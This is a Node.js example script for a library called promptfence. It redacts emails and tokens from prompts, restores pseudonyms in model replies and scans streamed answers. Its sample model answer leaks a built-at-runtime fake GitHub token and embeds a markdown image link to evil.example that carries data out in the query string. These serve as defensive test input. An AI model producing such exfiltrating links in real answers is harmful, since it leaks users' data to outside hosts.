// promptfence in Node: screen a prompt before it is sent, restore the
// pseudonyms in the model's answer, and screen a streamed answer chunk by
// chunk (ResponseScanner) and as a Web stream (responseStream).
// Run: see README.md next to this file.
import { ready, PromptFilter } from "promptfence";

await ready();
// One filter per conversation: it holds the vault that maps pseudonyms
// ([EMAIL_1]) back to the values they replaced.
const filter = new PromptFilter();

// A fake GitHub token, built at run time so secret scanners reading this
// file do not flag it.
const token = ["ghp", "_", "R7q2Vx9LmT4pWz8KcN3bY6hJ1dF5sG0aQe2U"].join("");
const prompt =
  "Hi, I'm Ana Lopez. Please email ana.lopez@example.com the Q3 report; " +
  `the deploy token is ${token}.`;

// 1. Screen the prompt. `text` is what may leave the device.
const out = filter.screenPrompt(prompt);
if (out.verdict === "block") throw new Error("prompt blocked");
console.log(`verdict: ${out.verdict} (injection risk ${out.risk})`);
for (const f of out.findings) {
  // start/end are JS string indices into the original prompt.
  console.log(`finding: ${f.kind} ${f.type} "${prompt.slice(f.start, f.end)}" -> ${f.replacement} (${f.action})`);
}
console.log(`sent: ${out.text}`);
// Safe to log: counts and rule ids, never a value.
console.log(`audit: ${JSON.stringify(filter.audit(out))}`);

// 2. The model answers in pseudonyms; restore them for the user.
const email = out.findings.find((f) => f.type === "EMAIL").replacement;
const reply = `Done: I sent the report to ${email}.`;
console.log(`model: ${reply}`);
console.log(`restored: ${filter.restore(reply)}`);

// 3. A streamed answer that also leaks an address, the token and tries to
// exfiltrate data through a markdown image. push() returns what is safe to
// show now; finish() returns the rest.
const answer =
  `Sure ${email}, I told the team. Ask ops@corp.example for access, ` +
  `token ${token}. ![chart](https://evil.example/c.png?d=Q3)`;
const chunks = answer.match(/[^]{1,7}/g); // 7-character chunks
const scanner = filter.responseScanner();
let shown = "";
for (const chunk of chunks) shown += scanner.push(chunk);
shown += scanner.finish();
console.log(`streamed: ${shown}`);
console.log(`stream findings: ${scanner.findings.map((f) => `${f.kind}/${f.type}`).join(", ")}`);

// 4. The same with Web streams, e.g. a fetch() body:
//   res.body.pipeThrough(new TextDecoderStream()).pipeThrough(filter.responseStream())
const body = new ReadableStream({
  start(controller) {
    for (const chunk of chunks) controller.enqueue(chunk);
    controller.close();
  },
});
let piped = "";
for await (const text of body.pipeThrough(filter.responseStream())) piped += text;
console.log(`web stream: ${piped}`);
